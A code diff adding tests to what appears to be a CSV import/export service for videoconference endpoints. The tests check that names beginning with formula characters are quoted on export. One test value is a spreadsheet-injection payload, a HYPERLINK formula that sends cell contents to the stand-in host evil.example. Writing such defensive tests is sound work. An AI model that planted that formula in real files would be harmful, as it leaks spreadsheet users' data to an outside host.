@@ -123,3 +123,37 @@ def test_import_needs_admin(client: TestClient, admin_headers: dict, session: Se
     session.commit()
     response = _import(client, viewer, GOOD.encode())
     assert (response.status_code, response.json()["code"]) == (403, "forbidden_role")
+
+
+# Issue 16 defect 4: names starting with = + - @ were exported raw, so a spreadsheet ran them as formulas.
+FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
+RISKY = "\ufeff" + "\r\n".join([
+    HEADER,
+    f"'@SN1,07900,Phường Việt Trì,'+Phòng họp,\"'{FORMULA_NAME.replace(chr(34), chr(34) * 2)}\",'-,G7500,h323,"
+    "'+842103846123,,'-,active",
+    "'=1+1,08020,Xã Đoan Hùng,Phòng 'A',''quoted,Huawei,TE30,sip,sip:doanhung@vc.phutho.gov.vn,,V1,active",
+]) + "\r\n"
+
+
+def test_formula_like_names_are_quoted_in_the_csv_export_and_round_trip(client: TestClient, admin_headers: dict,
+                                                                         session: Session) -> None:
+    response = _import(client, admin_headers, RISKY.encode("utf-8"))
+    assert response.status_code == 200, response.text
+    stored = session.exec(select(Endpoint.serial, Endpoint.name, Endpoint.vendor, Endpoint.dial_address,
+                                 Endpoint.firmware).order_by(Endpoint.serial)).all()
+    assert stored == [("=1+1", "'quoted", "Huawei", "sip:doanhung@vc.phutho.gov.vn", "V1"),
+                      ("@SN1", FORMULA_NAME, "-", "+842103846123", "-")]
+    assert sorted(session.exec(select(Room.name)).all()) == ["+Phòng họp", "Phòng 'A'"]
+    session.rollback()  # end the read: on SQLite the test session's transaction holds the write lock
+    exported = client.get("/api/v1/endpoints/export.csv", headers=admin_headers)
+    assert exported.content.decode("utf-8") == RISKY
+    again = _import(client, admin_headers, exported.content)
+    assert again.json() == {"created": 0, "updated": 0, "unchanged": 2, "rooms_created": 0, "dry_run": False}
+
+
+def test_raw_formula_name_is_exported_with_a_protective_quote(client: TestClient, admin_headers: dict) -> None:
+    raw = GOOD.replace('"Poly, phòng ""lớn"""', "@SUM(A1:A9)").replace("Huawei Đoan Hùng", "\tTab")
+    assert _import(client, admin_headers, raw.encode("utf-8")).status_code == 200
+    lines = client.get("/api/v1/endpoints/export.csv", headers=admin_headers).content.decode("utf-8-sig").split("\r\n")
+    assert lines[1].split(",")[4] == "'@SUM(A1:A9)"
+    assert lines[2].split(",")[4] == "Tab"  # a leading tab never reaches storage: names are one line
